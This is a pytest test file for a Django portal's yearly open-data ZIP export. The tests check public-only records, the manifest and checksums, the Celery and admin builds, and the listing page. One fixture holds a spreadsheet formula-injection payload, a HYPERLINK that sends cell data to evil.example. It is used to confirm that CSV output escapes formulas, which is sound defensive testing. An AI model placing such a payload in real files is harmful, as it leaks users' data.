"""The yearly open-data dump: every public record as JSON Lines and CSV in one ZIP archive with a
README of the fields and a manifest of counts and checksums, built by a Celery task (yearly, or
when the secretariat asks), kept per year in the public storage and listed on /open-data/."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import zipfile

import pytest
from django.conf import settings
from django.core.files.storage import storages
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from events.enums import OutcomeStatus
from events.models import Commitment
from events.services import commitment_answer, commitments_sync
from publications.models import OpenDataArchive
from publications.services.opendata import KINDS, open_data_build
from publications.tasks import task_open_data_build
from stocktaking.enums import EntryStatus
from stocktaking.prizes.enums import Phase, PrizeEntryStatus
from tests.events.factories import EventFactory, OutcomeDocumentFactory, SessionFactory
from tests.evidence.factories import RepositoryProposalFactory, ThematicRepositoryFactory
from tests.factories import MembershipFactory, UserFactory, secretariat_user
from tests.prizes.factories import ContestFactory, PrizeEntryFactory
from tests.query_counts import MAX_QUERIES, uncached_queries
from tests.roadmaps.factories import version_with_clauses
from tests.stocktaking.factories import EntryFactory
from wsis.csv_files import FORMULA_STARTS
from wsis.models import AuditEntry, CountryRegion, Sdg

pytestmark = pytest.mark.django_db

SECRET = "INTERNAL-SECRET-REASON"
PRIVATE_MAIL = "private-contact@example.org"
ANSWERER_MAIL = "answerer@example.org"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def public_storage(settings, tmp_path):
    """The public storage in a folder of this test (the local default, on a temporary disk)."""
    settings.STORAGES = {
        **settings.STORAGES,
        "public": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": tmp_path / "public", "base_url": "/media/public/"},
        },
    }
    return storages["public"]


@pytest.fixture
def world():
    """One public record of each kind, each next to a draft or hidden one, and private fields
    that must never reach the archive."""
    member = MembershipFactory(is_contact=True)
    entry = EntryFactory(
        status=EntryStatus.APPROVED,
        organisation=member.organisation,
        title=FORMULA,
        decision_reason=SECRET,
        contact_email=PRIVATE_MAIL,
    )
    draft_entry = EntryFactory(status=EntryStatus.DRAFT, title="DRAFT-ENTRY-TITLE")
    EntryFactory(status=EntryStatus.SUBMITTED, title="SUBMITTED-ENTRY-TITLE")
    contest = ContestFactory(in_phase=Phase.WINNERS_ANNOUNCED, at=timezone.now())
    category = contest.categories.order_by("number").first()
    winner = PrizeEntryFactory(
        contest=contest,
        category=category,
        status=PrizeEntryStatus.WINNER,
        stocktaking_entry=entry,
        organisation=member.organisation,
        decision_reason=SECRET,
    )
    # Results of a contest that has not announced them yet, and a mere nominee: not results.
    hidden = ContestFactory(in_phase=Phase.VOTING_OPEN, at=timezone.now())
    PrizeEntryFactory(
        contest=hidden,
        category=hidden.categories.first(),
        status=PrizeEntryStatus.WINNER,
        title="UNANNOUNCED-WINNER",
    )
    PrizeEntryFactory(
        contest=contest, category=category, status=PrizeEntryStatus.NOMINEE, title="NOMINEE"
    )
    event = EventFactory()
    session = SessionFactory(event=event)
    outcome = OutcomeDocumentFactory(
        session=session, status=OutcomeStatus.PUBLISHED, change_reason=SECRET
    )
    commitments_sync(outcome=outcome)
    # Answered by a person whose name and address are the secretariat's to know.
    commitment_answer(
        commitment=outcome.commitments.get(text="Outcome 2"),
        by=secretariat_user(email=ANSWERER_MAIL, full_name="ANSWERER-NAME"),
        status="in_progress",
        answer="Half of the schools are connected.",
    )
    draft_outcome = OutcomeDocumentFactory(
        session=SessionFactory(event=event),
        status=OutcomeStatus.DRAFT,
        thematic_suggestions="DRAFT-OUTCOME-TEXT",
    )
    Commitment.objects.create(
        outcome=draft_outcome, section="action_plan", text="DRAFT-COMMITMENT", key="draft"
    )
    draft_event = EventFactory(is_draft=True, name="DRAFT-EVENT")
    SessionFactory(event=draft_event, title="SESSION-OF-A-DRAFT-EVENT")
    version = version_with_clauses(clauses=2)
    version_with_clauses(clauses=1, roadmap=version.roadmap, status="superseded")
    draft_version = version_with_clauses(clauses=1, roadmap=version.roadmap, status="draft")
    draft_clause = draft_version.clauses.get()
    draft_clause.outcome_text = "DRAFT-CLAUSE-TEXT"
    draft_clause.save()
    # A published repository holding the public entry (the draft's proposal declined), and an
    # unpublished one.
    repository = ThematicRepositoryFactory()
    RepositoryProposalFactory(repository=repository, entry=entry, status="accepted")
    RepositoryProposalFactory(
        repository=repository, entry=draft_entry, status="declined", decision_reason=SECRET
    )
    ThematicRepositoryFactory(is_published=False, title="UNPUBLISHED-REPOSITORY")
    return {
        "entry": entry,
        "draft_entry": draft_entry,
        "winner": winner,
        "event": event,
        "session": session,
        "outcome": outcome,
        "version": version,
    }


def _open(archive: OpenDataArchive) -> zipfile.ZipFile:
    with storages["public"].open(archive.file_name, "rb") as stored:
        return zipfile.ZipFile(io.BytesIO(stored.read()))


def _jsonl(bundle: zipfile.ZipFile, kind: str) -> list[dict]:
    return [json.loads(line) for line in bundle.read(f"{kind}.jsonl").decode().splitlines()]


def _csv(bundle: zipfile.ZipFile, kind: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(bundle.read(f"{kind}.csv").decode())))


EXPECTED_COUNTS = {
    "prize_results": 1,
    "events": 1,
    "sessions": 2,
    "outcome_documents": 1,
    "commitments": 5,
    "roadmap_versions": 2,
    "roadmap_clauses": 3,
    "thematic_repositories": 1,
}


def test_the_archive_holds_every_public_kind_and_nothing_else(world):
    archive = open_data_build(by=secretariat_user())
    bundle = _open(archive)

    names = set(bundle.namelist())
    expected = {f"{kind.name}.{suffix}" for kind in KINDS for suffix in ("jsonl", "csv")}
    assert names == expected | {"README.md", "manifest.json"}
    counts = {kind.name: len(_jsonl(bundle, kind.name)) for kind in KINDS}
    assert {name: counts[name] for name in EXPECTED_COUNTS} == EXPECTED_COUNTS
    # As many entries as the public API lists (the prize entries' projects are approved too).
    api = Client().get("/api/v1/stocktaking/entries/").json()
    assert counts["stocktaking_entries"] == api["count"] == 3
    assert counts["sdgs"] == Sdg.objects.count() == 17
    assert counts["countries"] == CountryRegion.objects.count() > 100
    assert counts["action_lines"] >= 18
    assert archive.record_counts == counts
    # Each CSV holds the same records: a header, then one row a record.
    for kind in KINDS:
        assert len(_csv(bundle, kind.name)) == counts[kind.name] + 1, kind.name

    entries = {row["id"]: row for row in _jsonl(bundle, "stocktaking_entries")}
    assert world["draft_entry"].pk not in entries
    entry = entries[world["entry"].pk]
    assert entry == {row["id"]: row for row in api["results"]}[world["entry"].pk] | {
        "url": entry["url"]
    }
    assert entry["url"].startswith(settings.PORTAL_BASE_URL.rstrip("/"))
    assert entry["prizes"][0]["result"] == "winner"
    assert _jsonl(bundle, "prize_results")[0]["id"] == world["winner"].pk
    assert [row["id"] for row in _jsonl(bundle, "outcome_documents")] == [world["outcome"].pk]
    assert {row["event"] for row in _jsonl(bundle, "sessions")} == {world["event"].slug}
    # The commitments as /api/v1/commitments/ shows them, with their answers.
    commitments = _jsonl(bundle, "commitments")
    listed = Client().get("/api/v1/commitments/").json()["results"]
    site = settings.PORTAL_BASE_URL.rstrip("/")
    assert commitments == [
        row
        | {name: row[name].replace("http://testserver", site) for name in ("url", "outcome_url")}
        for row in listed
    ]
    answered = next(row for row in commitments if row["text"] == "Outcome 2")
    assert (answered["status"], answered["answer"]) == (
        "in_progress",
        "Half of the schools are connected.",
    )
    assert {row["outcome"] for row in commitments} == {world["outcome"].pk}


def test_no_draft_and_no_private_field_reaches_the_archive(world):
    bundle = _open(open_data_build())

    everything = "".join(bundle.read(name).decode() for name in bundle.namelist())
    for hidden in (
        SECRET,
        PRIVATE_MAIL,
        "DRAFT-ENTRY-TITLE",
        "SUBMITTED-ENTRY-TITLE",
        "UNANNOUNCED-WINNER",
        "NOMINEE",
        "DRAFT-OUTCOME-TEXT",
        "DRAFT-EVENT",
        "SESSION-OF-A-DRAFT-EVENT",
        "DRAFT-CLAUSE-TEXT",
        "UNPUBLISHED-REPOSITORY",
        "DRAFT-COMMITMENT",
        ANSWERER_MAIL,
        "ANSWERER-NAME",
    ):
        assert hidden not in everything, hidden
    assert "answered_by" not in _jsonl(bundle, "commitments")[0]
    # The fields are the public API's: pinned in tests/test_public_fields.py.
    entry = _jsonl(bundle, "stocktaking_entries")[0]
    assert not {"contact_email", "decision_reason", "moderation_status"} & entry.keys()
    assert not {"decision_reason", "change_reason"} & _jsonl(bundle, "prize_results")[0].keys()
    assert "change_reason" not in _jsonl(bundle, "outcome_documents")[0]
    assert {row["status"] for row in _jsonl(bundle, "roadmap_versions")} == {
        "published",
        "superseded",
    }


def test_the_csv_files_are_formula_safe_and_flatten_the_records(world):
    bundle = _open(open_data_build())

    header, *rows = _csv(bundle, "stocktaking_entries")
    record = next(
        record
        for record in (dict(zip(header, row, strict=True)) for row in rows)
        if record["id"] == str(world["entry"].pk)
    )
    assert record["title"] == "'" + FORMULA
    assert record["organisation.name"] == world["entry"].organisation.name
    assert record["countries"] == "CH"
    assert record["sdgs"] == "9"
    assert json.loads(record["prizes"])[0]["result"] == "winner"
    header, *rows = _csv(bundle, "commitments")
    commitments = {row[header.index("text")]: dict(zip(header, row, strict=True)) for row in rows}
    answered = commitments["Outcome 2"]
    assert (answered["status"], answered["answer"], answered["withdrawn"]) == (
        "in_progress",
        "Half of the schools are connected.",
        "false",
    )
    assert answered["event"] == world["outcome"].session.event.slug
    assert answered["organisers"] == "; ".join(
        world["outcome"].session.organisers.order_by("name").values_list("slug", flat=True)
    )
    for kind in KINDS:
        for cells in _csv(bundle, kind.name)[1:]:
            for cell in cells:
                assert cell.lstrip(" \n")[:1] not in FORMULA_STARTS or cell.startswith("-"), (
                    kind.name,
                    cell,
                )


def test_the_manifest_counts_and_checksums_every_file_and_the_readme_every_field(world):
    archive = open_data_build()
    bundle = _open(archive)

    manifest = json.loads(bundle.read("manifest.json"))
    listed = {row["file"]: row for row in manifest["files"]}
    assert set(listed) == set(bundle.namelist()) - {"manifest.json"}
    for name, row in listed.items():
        data = bundle.read(name)
        assert row["sha256"] == hashlib.sha256(data).hexdigest(), name
        assert row["bytes"] == len(data), name
        if name.endswith(".jsonl"):
            assert row["records"] == len(data.splitlines()), name
    readme = bundle.read("README.md").decode()
    for kind in KINDS:
        assert f"## {kind.name}" in readme
        header = _csv(bundle, kind.name)[0]
        for column in header:
            assert f"| `{column}` |" in readme, (kind.name, column)
    # The archive's own checksum and size, as the page shows them.
    with storages["public"].open(archive.file_name, "rb") as stored:
        data = stored.read()
    assert archive.sha256 == hashlib.sha256(data).hexdigest()
    assert archive.size == len(data)


def test_memory_stays_constant_the_records_are_read_in_chunks(world, monkeypatch):
    """Every kind is read through `.iterator(chunk_size=…)`, in chunks of CHUNK_SIZE."""
    from publications.services import opendata

    EntryFactory.create_batch(4, status=EntryStatus.APPROVED)
    monkeypatch.setattr(opendata, "CHUNK_SIZE", 2)
    bundle = _open(open_data_build())

    entries = _jsonl(bundle, "stocktaking_entries")
    assert len(entries) == 7
    assert len({row["id"] for row in entries}) == 7
    assert sum(1 for row in entries if row["prizes"]) == 1


def test_a_rebuild_replaces_the_years_archive_and_keeps_earlier_years(
    world, public_storage, django_capture_on_commit_callbacks
):
    last_year = open_data_build(now=timezone.now() - dt.timedelta(days=366))
    first = open_data_build()
    EntryFactory(status=EntryStatus.APPROVED)
    with django_capture_on_commit_callbacks(execute=True):
        second = open_data_build()

    assert second.pk == first.pk
    assert (
        second.record_counts["stocktaking_entries"]
        == first.record_counts["stocktaking_entries"] + 1
    )
    assert first.file_name != second.file_name
    assert not public_storage.exists(first.file_name)
    assert public_storage.exists(second.file_name)
    assert public_storage.exists(last_year.file_name)
    assert list(OpenDataArchive.objects.values_list("year", flat=True)) == [
        second.year,
        last_year.year,
    ]
    assert AuditEntry.objects.filter(action="opendata.build").count() == 3


def test_the_celery_task_and_the_command_build_it(world, settings):
    settings.CELERY_TASK_ALWAYS_EAGER = True
    secretariat = secretariat_user()

    archive_id = task_open_data_build.delay(secretariat.pk).get()

    archive = OpenDataArchive.objects.get(pk=archive_id)
    assert archive.made_by == secretariat
    assert archive.record_counts["stocktaking_entries"] == 3
    out = io.StringIO()
    call_command("opendata_dump", stdout=out)
    assert OpenDataArchive.objects.get().sha256 in out.getvalue()


def test_the_yearly_schedule_runs_the_task_on_the_years_last_evening():
    entry = settings.CELERY_BEAT_SCHEDULE["publications-open-data-dump"]
    assert entry["task"] == task_open_data_build.name
    schedule = entry["schedule"]
    assert schedule.month_of_year == {12}
    assert schedule.day_of_month == {31}


def test_it_is_built_on_demand_from_the_admin(world, settings):
    """By whoever administers the publications (their view permission); other staff get 403."""
    settings.CELERY_TASK_ALWAYS_EAGER = True
    client = Client()
    client.force_login(UserFactory(is_staff=True, verified=True))
    assert client.post("/admin/publications/opendataarchive/build/").status_code == 403
    client.force_login(UserFactory(is_staff=True, is_superuser=True, verified=True))
    assert client.get("/admin/publications/opendataarchive/build/").status_code == 405

    response = client.post("/admin/publications/opendataarchive/build/")

    assert response.status_code == 302
    assert OpenDataArchive.objects.count() == 1
    page = client.get("/admin/publications/opendataarchive/").content.decode()
    assert "/admin/publications/opendataarchive/build/" in page
    assert OpenDataArchive.objects.get().sha256 in page


def test_the_page_lists_every_archive_with_its_size_date_and_checksum(world):
    earlier = open_data_build(now=timezone.now() - dt.timedelta(days=366))
    current = open_data_build()
    client = Client()

    page = client.get("/open-data/").content.decode()

    for archive in (current, earlier):
        assert archive.sha256 in page
        assert storages["public"].url(archive.file_name) in page
    assert page.index(str(current.year)) < page.index(str(earlier.year))
    assert "/api/docs/" in page
    assert uncached_queries(client, "/open-data/") <= MAX_QUERIES


def test_the_page_is_cached_and_a_new_archive_shows_at_once(
    world, django_capture_on_commit_callbacks
):
    client = Client()
    assert "No archive has been made yet." in client.get("/open-data/").content.decode()
    assert "No archive has been made yet." in client.get("/open-data/").content.decode()

    with django_capture_on_commit_callbacks(execute=True):
        archive = open_data_build()

    assert archive.sha256 in client.get("/open-data/").content.decode()


def test_the_page_speaks_every_language():
    for prefix in ("/fr", "/es", "/ru", "/ar", "/zh-hans"):
        assert Client().get(f"{prefix}/open-data/").status_code == 200


def test_the_api_docs_link_to_the_open_data():
    schema = Client().get("/api/schema/", HTTP_ACCEPT="application/json").json()
    assert "/open-data/" in schema["info"]["description"]


def test_the_secretariat_builds_it_from_the_admin(world, settings):
    """The secretariat (not only a superuser) administers what the portal publishes."""
    from tests.factories import secretariat_user

    settings.CELERY_TASK_ALWAYS_EAGER = True
    client = Client()
    client.force_login(secretariat_user())
    assert client.get("/admin/publications/stocktakingreport/").status_code == 200
    response = client.post("/admin/publications/opendataarchive/build/")
    assert response.status_code == 302
    assert OpenDataArchive.objects.count() == 1
